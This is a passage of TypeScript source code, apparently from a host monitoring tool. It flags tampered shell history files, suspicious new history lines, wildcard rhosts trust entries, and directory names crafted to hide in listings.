    start = end + 1;
  }
}

/**
 * HistoryTruncated and HistorySuspicious over snapshots of history files. HistoryTruncated: a file
 * seen before is smaller, empty or missing now, or is (whenever first seen so) a symbolic link or
 * not a regular file. HistorySuspicious: lines added since the last check (all lines the first time,
 * or after a shrink) match {@link SUSPICIOUS_PATTERNS}; a line already reported is not reported
 * again. A size is stored (with the check time) when it differs from the one remembered, so an
 * unchanged home does not rewrite the history. With both modules off nothing is judged or stored.
 * At most one anomaly per module and file per call. `history` is not changed.
 */
export function checkHistoryFiles(history: History, snaps: readonly HistoryFileSnapshot[], cfg: HomesConfig, time: number): HomeCheckResult {
  const trunc = cfg.modules.history_truncated;
  const susp = cfg.modules.history_suspicious;
  if (!trunc.enabled && !susp.enabled) return { history, anomalies: [] };
  const edits = new ProfileEdits(history, time);
  const ctx = matchContext(cfg);
  const anomalies: Anomaly[] = [];
  for (const snap of snaps) {
    const path = quote(joinPath(snap.home, snap.file));
    const prev = edits.read(snap.user)?.historySizes[snap.file];
    const truncated: string[] = [];
    const state: string[] = [];
    const setSize = (size: number | undefined): void => {
      // Unchanged sizes are not rewritten, so a quiet home leaves the history object as it was.
      if (size === undefined ? prev === undefined : prev?.size === size) return;
      const p = edits.write(snap.user);
      if (size === undefined) delete p.historySizes[snap.file];
      else p.historySizes[snap.file] = { size, time };
    };
    switch (snap.kind) {
      case 'file':
        if (prev !== undefined && snap.size < prev.size) {
          truncated.push(snap.size === 0 ? `${path} was emptied (was ${prev.size} bytes)` : `${path} shrank from ${prev.size} to ${snap.size} bytes`);
        }
        setSize(snap.size);
        break;
      case 'missing':
        if (prev !== undefined) truncated.push(`${path} was deleted (was ${prev.size} bytes)`);
        setSize(undefined);
        break;
      case 'symlink': {
        const target = snap.linkTarget ?? '';
        state.push(findingKey('H', snap.file, 'symlink', target));
        const why = target === '/dev/null' ? 'so the shell history is thrown away' : 'so the shell history is not kept in the home';
        truncated.push(`${path} is a symbolic link to ${quote(target)}, ${why}${prev !== undefined ? ` (was a ${prev.size}-byte file)` : ''}`);
        setSize(undefined);
        break;
      }
      case 'other': {
        const type = snap.type ?? 'special file';
        state.push(findingKey('H', snap.file, 'other', type));
        truncated.push(`${path} is a ${type}, not a regular file, so the shell history is not kept${prev !== undefined ? ` (was a ${prev.size}-byte file)` : ''}`);
        setSize(undefined);
        break;
      }
      default: {
        const never: never = snap.kind;
        throw new Error(`unknown history file kind ${String(never)}`);
      }
    }
    // States are reported once while they last; a shrink or deletion is an event, reported when seen.
    const freshState = new Set(edits.replaceScope(snap.user, scopePrefix('H', snap.file), state));
    const isState = snap.kind === 'symlink' || snap.kind === 'other';
    if (trunc.enabled && truncated.length > 0 && (!isState || freshState.size > 0)) {
      anomalies.push(homeAnomaly('HistoryTruncated', trunc.severity, snap.user, time, truncated.join('; ')));
    }

    if (!susp.enabled || snap.kind !== 'file' || snap.tail === undefined) continue;
    const from = prev !== undefined && snap.size >= prev.size ? prev.size : 0;
    const found = new Map<string, string[]>();
    for (const line of newLines(snap.tail, snap.tailOffset ?? 0, from)) {
      const names = suspiciousMatches(line, ctx);
      if (names.length === 0) continue;
      const h = fnv1a(line);
      const lineKeys = names.map((n) => findingKey('S', snap.file, n, h));
      const fresh = new Set(edits.addKeys(snap.user, lineKeys));
      const freshNames = names.filter((_n, i) => fresh.has(lineKeys[i]!));
      if (freshNames.length > 0 && !found.has(line)) found.set(line, freshNames);
    }
    if (found.size === 0) continue;
    const items = [...found].map(([line, names]) => `${names.join(', ')}: ${quote(line)}`);
    anomalies.push(homeAnomaly('HistorySuspicious', susp.severity, snap.user, time, `${path} has ${found.size} suspicious line${found.size === 1 ? '' : 's'}: ${listItems(items)}`));
  }
  return { history: edits.result(), anomalies };
}

// ---------------------------------------------------------------------------------------------
// RhostsCheck

/** Why one trust-file line is a wildcard, or undefined for a comment, a deny (`-`) line or a plain host/user pair. */
export function trustLineProblem(line: string): string | undefined {
  const t = line.trim();
  if (t === '' || t.startsWith('#')) return undefined;
  const fields = t.split(/[ \t]+/);
  const host = fields[0]!;
  const user = fields[1];
  const who = (): string | undefined => {
    if (user === undefined) return 'as the same user';
    if (user.startsWith('-')) return undefined;
    if (user === '+') return 'as any user';
    if (user.startsWith('+@')) return `as any user of netgroup ${user.slice(2)}`;
    return `as user ${user}`;
  };
  if (host.startsWith('-')) return undefined;
  if (host === '+') {
    const w = who();
    return w === undefined ? undefined : `any host ${w}`;
  }
  if (host.startsWith('+@')) {
    const w = who();
    return w === undefined ? undefined : `any host of netgroup ${host.slice(2)} ${w}`;
  }
  if (user === '+') return `host ${host} as any user`;
  if (user !== undefined && user.startsWith('+@')) return `host ${host} as any user of netgroup ${user.slice(2)}`;
  return undefined;
}

/**
 * RhostsCheck over trust files: lines that trust any host (`+`, `+ +`, `+ user`), any user of a
 * host (`host +`) or a netgroup (`+@group`). Each line is reported once while it stays; a file
 * that is absent (no lines) forgets its findings. One anomaly per file per call.
 */
export function checkTrustFiles(history: History, snaps: readonly TrustFileSnapshot[], cfg: HomesConfig, time: number): HomeCheckResult {
  const m = cfg.modules.rhosts_check;
  if (!m.enabled) return { history, anomalies: [] };
  const edits = new ProfileEdits(history, time);
  const anomalies: Anomaly[] = [];
  for (const snap of snaps) {
    const user = snap.user === '' ? SYSTEM_USER : snap.user;
    const keys: string[] = [];
    const items = new Map<string, string>();
    snap.lines.forEach((line, i) => {
      const why = trustLineProblem(line);
      if (why === undefined) return;
      const norm = line.trim().split(/[ \t]+/).join(' ');
      const k = findingKey('R', snap.path, fnv1a(norm));
      keys.push(k);
      if (!items.has(k)) items.set(k, `line ${i + 1} ${quote(norm, 80)} trusts ${quote(why, 120).slice(1, -1)}`);
    });
    const fresh = edits.replaceScope(user, scopePrefix('R', snap.path), keys);
    if (fresh.length === 0) continue;
    const list = fresh.map((k) => items.get(k)!);
    const where = snap.user === '' ? 'system-wide trust file' : 'trust file';
    anomalies.push(homeAnomaly('RhostsCheck', m.severity, user, time, `${where} ${quote(snap.path)} has ${list.length} wildcard entr${list.length === 1 ? 'y' : 'ies'}: ${listItems(list)}`));
  }
  return { history: edits.result(), anomalies };
}

// ---------------------------------------------------------------------------------------------
// OddDirnames

/**
 * Why a directory name is odd, or undefined for an ordinary one: control characters (including
 * escape sequences), invisible or bidirectional-override characters, only spaces, only dots
 * (`...`), or dots and spaces (`. `, `.. `, ` ..`): names made to hide in a listing.
 */
export function oddDirnameReason(name: string): string | undefined {
  let dots = 0;
  let spaces = 0;
  let other = 0;
  for (const ch of name) {
    const cp = ch.codePointAt(0)!;
    if (cp < 0x20 || (cp >= 0x7f && cp <= 0x9f)) return 'control characters';
    if (isHidden(cp)) return 'invisible or bidirectional-override characters';
    if (cp === 0x2e) dots++;
    else if (isSpaceLike(cp)) spaces++;
    else other++;
  }
  if (other > 0 || name.length === 0) return undefined;
  if (dots === 0) return 'only spaces';
  if (spaces === 0) return dots >= 3 ? 'only dots' : undefined;
  return 'only dots and spaces';
}

/**
 * OddDirnames over home walks: directories whose name {@link oddDirnameReason} calls odd. Each is
 * reported once while it stays; a complete walk forgets directories no longer there (an
 * incomplete one keeps them, since they may only have been out of reach). One anomaly per home per call.
 */
export function checkOddDirnames(history: History, walks: readonly HomeWalk[], cfg: HomesConfig, time: number): HomeCheckResult {
  const m = cfg.modules.odd_dirnames;
  if (!m.enabled) return { history, anomalies: [] };
  const edits = new ProfileEdits(history, time);
  const anomalies: Anomaly[] = [];
  for (const w of walks) {
    const items = new Map<string, string>();
    for (const d of w.dirs) {
      const why = oddDirnameReason(d.slice(d.lastIndexOf('/') + 1));
      if (why === undefined) continue;
      // The key holds the escaped path: the history file never stores control characters.
      const shown = quote(d, 240);
      items.set(findingKey('D', shown), `${shown} (${why})`);
    }
    const keys = [...items.keys()];
    const fresh = w.complete ? edits.replaceScope(w.user, scopePrefix('D'), keys) : edits.addKeys(w.user, keys);
    if (fresh.length === 0) continue;
    const list = fresh.map((k) => items.get(k)!);
    anomalies.push(
      homeAnomaly('OddDirnames', m.severity, w.user, time, `${quote(w.home)} has ${list.length} oddly named director${list.length === 1 ? 'y' : 'ies'}: ${listItems(list)}`),
    );
  }
  return { history: edits.result(), anomalies };
}
